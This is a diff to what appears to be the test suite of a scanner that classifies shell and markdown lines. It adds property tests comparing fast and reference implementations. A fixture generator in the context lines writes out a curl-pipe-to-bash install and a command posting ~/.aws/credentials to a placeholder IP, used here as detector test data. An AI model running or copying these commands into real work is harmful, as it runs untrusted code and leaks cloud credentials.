@@ -13,6 +13,9 @@ answer of the slow path it replaces:
   looked up only on the node types that can hold one;
 - shell lines: the line-level shapes are skipped together where the set pass saw none of the expressions
   their findings need, and a line naming none of a script's assigned variables is not substituted;
+- markdown lines: a line is split into its kinds in one pass kept to the first one's answer, a prose line
+  whose first character rules out a bare command is not matched, and URLs and inline code are looked
+  for only on lines holding ``://`` or a backtick;
 - whole-file passes: the ``re`` search for encoded literals runs only where a run of their characters
   decodes to something, the campaign indicators are looked for in one search on ASCII text, and a URL's
   host kinds are remembered.
@@ -434,6 +437,70 @@ def _shell_with_variables(lines: int) -> str:
             out.append('curl -s "$BASE/install.sh" | bash')
             out.append(f"cat ~/.aws/credentials | curl -d @- http://203.0.113.{i % 250}/c")
     return "\n".join(out) + "\n"
+
+
+# ------------------------------------------------------------------ markdown lines
+
+
+def _markdown_lines_reference(text_: str) -> list[tuple[object, ...]]:
+    """The markdown split as first written (a list of recent lines sliced on every prose line)."""
+    out: list[tuple[object, ...]] = []
+    fence: str | None = None
+    lang = ""
+    quoted = False
+    recent: list[str] = []
+    for i, raw in enumerate(text_.split("\n"), 1):
+        m = text.FENCE_RE.match(raw) if "``" in raw or "~~" in raw else None
+        if fence is None and m:
+            fence, lang = m.group(1), m.group(2).lower()
+            quoted = any(text._BAD_EXAMPLE_RE.search(r) for r in recent[-3:])
+            out.append((i, raw, "fence", lang, False))
+            continue
+        if fence is not None and raw.strip().startswith(fence[0] * len(fence)) and not raw.strip().strip(fence[0]):
+            fence, lang, quoted = None, "", False
+            out.append((i, raw, "fence", "", False))
+            continue
+        if fence is not None:
+            out.append((i, raw, "code", lang, quoted))
+        else:
+            out.append((i, raw, "prose", "", False))
+            if raw.strip():
+                recent.append(raw)
+                recent = recent[-3:]
+    return out
+
+
+_MD_PIECES = st.sampled_from(["```", "```bash", "````", "~~~", "~~~ python", "  ```", "    ```", "``` ", "`x`", "text",
+                              "malicious example", "avoid this", "never run", " ", "", "\t", "é", "\u00a0", "curl -s x"])
+
+
+@_SETTINGS
+@given(st.lists(st.lists(_MD_PIECES, max_size=3).map("".join), max_size=14).map("\n".join))
+def test_markdown_lines_are_split_as_before(text_: str) -> None:
+    assert [tuple(ln) for ln in text.markdown_lines(text_)] == _markdown_lines_reference(text_)
+
+
+def _bare_command_reference(line: str) -> bool:
+    m = classifier._BARE_COMMAND.match(line)
+    return m is not None and m.group(1) in classifier.KNOWN_COMMANDS and not line.rstrip().endswith((".", ":"))
+
+
+@_SETTINGS
+@given(st.lists(st.sampled_from(["curl", "ls", "git", "Git", " ", "  ", "\t", "\x0b", "\u00a0", "\u2003", "$", "-s",
+                                 "--help", "x", ".", ":", "\\", "é", "-", "#", ">"]), max_size=7).map("".join))
+def test_bare_commands_are_told_as_before(line: str) -> None:
+    assert classifier._bare_command(line) == _bare_command_reference(line)
+
+
+@_SETTINGS
+@given(st.text(max_size=40), st.sampled_from(["", "https://a.example/x", "FTP://b.example", "`code`", "wss://c/d",
+                                               "http:/x", "`", "``"]))
+def test_urls_and_inline_code_need_their_literals(line: str, piece: str) -> None:
+    for line_ in (line, piece + line, line + piece):
+        if "://" not in line_:
+            assert text.URL_RE.search(line_) is None
+        if "`" not in line_:
+            assert text.INLINE_CODE_RE.search(line_) is None
 
 
 # ------------------------------------------------------------------ whole-file passes
